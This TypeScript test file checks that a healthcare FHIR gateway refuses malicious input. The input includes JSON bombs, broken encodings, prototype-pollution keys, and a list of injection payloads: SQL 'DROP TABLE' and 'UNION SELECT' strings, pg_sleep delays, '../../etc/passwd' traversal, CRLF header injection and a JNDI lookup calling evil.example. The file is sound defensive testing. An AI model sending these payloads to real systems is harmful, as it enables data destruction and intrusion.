/** Input at the FHIR door that is made to break: bombs, broken texts, SQL in every place that takes a value, wildcards. */
import type { Bundle } from 'fhir/r4';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LIMITS } from '../../src/base/limits.ts';
import { type App, openApp } from '../support/app.ts';
import { type FhirTester, fhirTester } from '../support/fhir.ts';
import { COUNTY, openWorld, type TestDatabase, type TestWorld } from '../support/gateway.ts';
import { openSql } from '../support/sql.ts';
import { electrolytes, NATIONAL_SYSTEM, newVictim, openAttacked } from './attack-world.ts';

const JSON_TYPE = { 'content-type': 'application/fhir+json' };
/** What any bomb may cost; most are refused in a few milliseconds. */
const SECONDS_MAX = 10;

let database: TestDatabase;
let world: TestWorld;
let app: App;
let fhir: FhirTester;
let sql: ReturnType<typeof openSql>;
let patient = '';
const victim = newVictim();

beforeAll(async () => {
  database = await openAttacked();
  world = await openWorld(database);
  app = openApp(world.gateway);
  fhir = fhirTester(world, app);
  sql = openSql(database.url);
  await world.send(COUNTY, electrolytes({ controlId: 'V1', patient: victim }));
  const [found] = (await fhir.search(COUNTY, `/Patient?identifier=${NATIONAL_SYSTEM}|${victim.national}`)).matches;
  patient = found?.id ?? '';
});
afterAll(async () => {
  await sql.end();
  await world.close();
  await database.close();
});

/** Rows of every table that a request could have written to or dropped, the audit of it aside. */
const rows = async (): Promise<unknown> =>
  (
    await sql`select (select count(*) from container) as containers, (select count(*) from resource) as resources,
      (select count(*) from result_entry) as entries, (select count(*) from directory) as directory,
      (select count(*) from information_schema.tables where table_schema = 'public') as tables`
  )[0];

describe('a bomb', () => {
  const observation = (over: string): string =>
    `{"resourceType":"Observation","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/PATIENT"},${over}}`;
  const nested = (depth: number): string =>
    `"extension":${'[{"url":"urn:x","extension":'.repeat(depth)}[]${'}]'.repeat(depth)}`;
  const many = (count: number, one: string): string => Array.from({ length: count }, () => one).join(',');
  const bundle = (entries: string): string => `{"resourceType":"Bundle","type":"transaction","entry":[${entries}]}`;
  const utf16 = (text: string): Uint8Array => {
    const bytes = new Uint8Array(2 + text.length * 2);
    bytes.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) bytes[2 + i * 2] = text.charCodeAt(i);
    return bytes;
  };

  test.each<[string, string, () => string | Uint8Array, string]>([
    ['ten thousand levels', '/Observation', () => observation(nested(10_000)), 'gateway/not-valid'],
    ['a million open brackets', '/Observation', () => '['.repeat(1_000_000), 'gateway/not-valid'],
    ['a million entries', '', () => bundle(many(1_000_000, '{}')), 'gateway/too-many-entries'],
    [
      'one entry more than a bundle may have',
      '/',
      () => bundle(many(LIMITS.fhirEntriesMax + 1, '{}')),
      'gateway/too-many-entries',
    ],
    [
      'a hundred thousand components',
      '/Observation',
      () => observation(`"component":[${many(100_000, '{"code":{"text":"x"},"valueInteger":1}')}]`),
      'gateway/not-valid',
    ],
    [
      'a hundred thousand wrong components',
      '/Observation',
      () => observation(`"component":[${many(100_000, '{"a":[]}')}]`),
      'gateway/not-valid',
    ],
    [
      'a hundred thousand properties',
      '/Observation',
      () => observation(Array.from({ length: 100_000 }, (_, n) => `"p${n}":1`).join(',')),
      'gateway/not-valid',
    ],
    ['a key twice', '/Observation', () => observation('"subject":{"reference":"Patient/other"}'), 'gateway/not-valid'],
    [
      'a key twice by an escape',
      '/Observation',
      () => observation(String.raw`"\u0073ubject":{"reference":"Patient/other"}`),
      'gateway/not-valid',
    ],
    ['__proto__', '/Observation', () => observation('"__proto__":{"status":"final"}'), 'gateway/not-valid'],
    ['constructor', '/Observation', () => observation('"constructor":{"prototype":{}}'), 'gateway/not-valid'],
    ['NUL', '/Observation', () => observation(String.raw`"note":[{"text":"a\u0000b"}]`), 'gateway/not-valid'],
    [
      'half a surrogate pair',
      '/Observation',
      () => observation(String.raw`"note":[{"text":"\ud83d"}]`),
      'gateway/not-valid',
    ],
    ['a byte order mark', '/Observation', () => `\uFEFF${observation('"id":"a"')}`, 'gateway/not-valid'],
    ['UTF-16', '/Observation', () => utf16(observation('"id":"a"')), 'gateway/not-valid'],
    [
      'bytes that are no UTF-8',
      '/Observation',
      () => new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
      'gateway/not-valid',
    ],
    [
      'a number of five million digits',
      '/Observation',
      () => observation(`"valueQuantity":{"value":${'9'.repeat(5_000_000)}}`),
      'gateway/not-valid',
    ],
    ['a number beyond every number', '/Observation', () => observation('"valueInteger":1e999'), 'gateway/not-valid'],
    [
      'an exponent of a million',
      '/Observation',
      () => observation('"valueQuantity":{"value":1e1000000}'),
      'gateway/not-valid',
    ],
    [
      'eleven million bytes',
      '/Observation',
      () => observation(`"note":[{"text":"${'x'.repeat(11 * 1024 * 1024)}"}]`),
      'web/body-too-large',
    ],
    [
      'a search of a million bytes',
      '/Observation/_search',
      () => `patient=${'x'.repeat(1_000_000)}`,
      'web/body-too-large',
    ],
    [
      'a thousand parameters',
      '/Observation/_search',
      () => many(1_000, 'code=a').replaceAll(',', '&'),
      'search/too-much',
    ],
  ])('of %s is refused in time and leaves nothing', async (_, path, make, code) => {
    const before = await rows();
    const made = make();
    const body = typeof made === 'string' ? made.replace('PATIENT', patient) : made;
    const start = performance.now();
    const headers = path.endsWith('_search') ? { 'content-type': 'application/x-www-form-urlencoded' } : JSON_TYPE;
    const response = await fhir.ask(COUNTY, path, { method: 'POST', body: body as string, headers });
    const text = await response.text();
    expect(performance.now() - start).toBeLessThan(SECONDS_MAX * 1_000);
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    expect(text).toContain(`"${code}"`);
    // However much is wrong, what is told of it is little.
    expect(text.length).toBeLessThan(100_000);
    expect(await rows()).toEqual(before);
  });

  test('that never ends is cut off at the limit', async () => {
    let sent = 0;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        sent += 65_536;
        controller.enqueue(new Uint8Array(65_536).fill(0x20));
      },
    });
    const response = await fhir.ask(COUNTY, '/Observation', {
      method: 'POST',
      body: endless,
      headers: JSON_TYPE,
      duplex: 'half',
    } as never);
    expect((await fhir.refusal(response)).code).toBe('web/body-too-large');
    expect(sent).toBeLessThan(LIMITS.fhirBodyBytesMax + 1024 * 1024);
  });
});

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE container; --",
  "') UNION SELECT content FROM container --",
  '"; DROP TABLE resource; --',
  String.raw`\'; DELETE FROM directory; --`,
  '$1',
  '$$; select pg_sleep(9); $$',
  '1; SELECT pg_sleep(9)',
  '{"a":"b"}',
  '\u0000',
  '%',
  '_',
  '%25',
  '*',
  '../../etc/passwd',
  '\r\nSet-Cookie: a=b',
  '${jndi:ldap://evil.example/a}',
];

describe('SQL, and what else is code elsewhere, in a request', () => {
  const PLACES: readonly (readonly [string, (text: string) => string])[] = [
    ['an id', (text) => `/Observation/${text}`],
    ['a version', (text) => `/Observation/${'0'.repeat(22)}/_history/${text}`],
    ['a type', (text) => `/${text}`],
    ['_id', (text) => `/Observation?_id=${text}`],
    ['patient', (text) => `/Observation?patient=${text}`],
    ['subject with its type', (text) => `/Observation?subject=Patient/${text}`],
    ['patient.identifier', (text) => `/Observation?patient.identifier=urn:x|${text}`],
    ['a system', (text) => `/Patient?identifier=${text}|1`],
    ['identifier', (text) => `/Observation?identifier=${text}`],
    ['code', (text) => `/Observation?patient=PATIENT&code=${text}`],
    ['a system of a code', (text) => `/Observation?patient=PATIENT&code=${text}|K`],
    ['code:in', (text) => `/Observation?patient=PATIENT&code:in=${text}`],
    ['a status', (text) => `/Observation?patient=PATIENT&status=${text}`],
    ['a date', (text) => `/Observation?patient=PATIENT&date=${text}`],
    ['_lastUpdated', (text) => `/Observation?_lastUpdated=${text}`],
    ['a quantity', (text) => `/Observation?patient=PATIENT&value-quantity=${text}`],
    ['the name of a parameter', (text) => `/Observation?patient=PATIENT&${text}=1`],
    ['a modifier', (text) => `/Observation?patient=PATIENT&code:${text}=1`],
    ['_sort', (text) => `/Observation?patient=PATIENT&_sort=${text}`],
    ['_elements', (text) => `/Observation?patient=PATIENT&_elements=${text}`],
    ['_include', (text) => `/Observation?patient=PATIENT&_include=Observation:${text}`],
    ['_count', (text) => `/Observation?patient=PATIENT&_count=${text}`],
    ['_cursor', (text) => `/Observation?_cursor=${text}`],
    ['a patient of the audit', (text) => `/AuditEvent?patient=${text}`],
    ['a date of the audit', (text) => `/AuditEvent?date=${text}`],
    ['an id of the audit', (text) => `/AuditEvent/${text}`],
    ['an id of a subscription', (text) => `/Subscription/${text}`],
    ['an id of a Provenance', (text) => `/Provenance/${text}`],
    ['_since', (text) => `/Patient/PATIENT/$everything?_since=${text}`],
    ['_type', (text) => `/Patient/PATIENT/$everything?_type=${text}`],
    ['a name', (text) => `/Organization?name=${text}`],
    ['a code to translate', (text) => `/ConceptMap/$translate?code=${text}&system=${text}`],
  ];

  test.each(PLACES)('as %s finds nothing, breaks nothing and is not said again', async (_, place) => {
    const before = await rows();
    for (const text of INJECTIONS) {
      const path = place(encodeURIComponent(text)).replace('PATIENT', patient);
      const response = await fhir.ask(COUNTY, path);
      const answer = await response.text();
      expect([200, 400, 404, 422], `${response.status} ${path}`).toContain(response.status);
      if (response.status === 200) expect(Object.keys(JSON.parse(answer) as Bundle), path).not.toContain('entry');
      if (text.length > 4) expect(answer, path).not.toContain(JSON.stringify(text).slice(1, -1));
    }
    expect(await rows()).toEqual(before);
  });

  test('in what is written is kept as the text that it is', async () => {
    for (const text of INJECTIONS.filter((one) => one !== '\u0000' && !one.includes('\r'))) {
      const identifier = [{ system: 'urn:x', value: text }];
      const body = JSON.stringify({
        resourceType: 'Observation',
        identifier,
        status: 'final',
        code: { text },
        subject: { reference: `Patient/${patient}` },
        note: [{ text }],
      });
      const response = await fhir.ask(COUNTY, '/Observation', { method: 'POST', body, headers: JSON_TYPE });
      expect(response.status, text).toBe(201);
      expect(await response.json()).toMatchObject({ identifier, note: [{ text }] });
      const escaped = text.replaceAll(/[\\,|$]/g, String.raw`\$&`);
      const found = await fhir.search(COUNTY, `/Observation?identifier=urn:x|${encodeURIComponent(escaped)}`);
      expect(found.matches, text).toHaveLength(1);
    }
  });

  test('in headers is refused, or taken as the text that it is', async () => {
    for (const text of INJECTIONS) {
      const value = encodeURIComponent(text);
      for (const name of ['concord-encounter', 'concord-reason', 'if-none-match', 'prefer']) {
        const response = await fhir.ask(COUNTY, `/Observation?patient=${patient}&_summary=count`, {
          headers: { [name]: value },
        });
        expect([200, 400]).toContain(response.status);
      }
      for (const token of [`urn:none|${value}`, `${value}|1`, value]) {
        const condition = { ...JSON_TYPE, 'if-none-exist': `identifier=${token}` };
        const body = JSON.stringify({ resourceType: 'Device', deviceName: [{ name: 'd', type: 'model-name' }] });
        const made = await fhir.ask(COUNTY, '/Device', { method: 'POST', body, headers: condition });
        expect([200, 201, 400]).toContain(made.status);
      }
    }
    const put = JSON.stringify({ resourceType: 'Patient', id: patient });
    const bent = await fhir.ask(COUNTY, `/Patient/${patient}`, {
      method: 'PUT',
      body: put,
      headers: { ...JSON_TYPE, 'if-match': 'W/"1\' or 1=1"' },
    });
    expect([409, 412]).toContain(bent.status);
  });
});

describe('a wildcard', () => {
  test.each(['%', '_', '*', '?', '.', '.*', String.raw`\%`, '[a-z]'])('%s is a sign like any other', async (sign) => {
    const text = encodeURIComponent(sign);
    for (const path of [
      `/Patient?identifier=${text}`,
      `/Patient?identifier=${victim.national}&name=${text}`,
      `/Patient?identifier=${victim.national}&name:contains=${text}`,
      `/Patient?identifier=${victim.national}&family:exact=${text}`,
      `/Observation?patient=${patient}&code=${text}`,
      `/Organization?name:contains=${text}`,
    ])
      expect((await fhir.search(COUNTY, path)).matches, path).toEqual([]);
  });

  test('does not keep the plain part of a name from being found', async () => {
    const part = encodeURIComponent(victim.name.slice(1));
    const path = `/Patient?identifier=${victim.national}&name:contains=${part}`;
    expect((await fhir.search(COUNTY, path)).matches).toHaveLength(1);
  });
});
